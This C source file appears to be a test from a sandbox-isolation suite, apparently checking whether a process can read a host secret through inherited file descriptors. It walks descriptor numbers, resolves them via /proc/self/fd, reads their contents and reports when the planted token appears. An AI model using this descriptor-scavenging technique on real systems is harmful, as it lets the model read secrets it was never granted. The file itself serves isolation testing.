/* {timeout=5s} Inherited descriptors: one of the host's is open to the secret. */
#include "attack.h"

int main(void)
{
    for (int fd = 0; fd < 70000; fd++) {
        char path[64], target[256], text[64];
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t len = readlink(path, target, sizeof target - 1);
        target[len > 0 ? len : 0] = '\0';
        say("%s %d -> %.20s", fd > 2 ? "GOT" : "open", fd, target);
        ssize_t got = pread(fd, text, sizeof text - 1, 0);
        text[got > 0 ? got : 0] = '\0';
        if (strstr(text, TOKEN))
            say("GOT the secret from %d", fd);
    }
    return end();
}
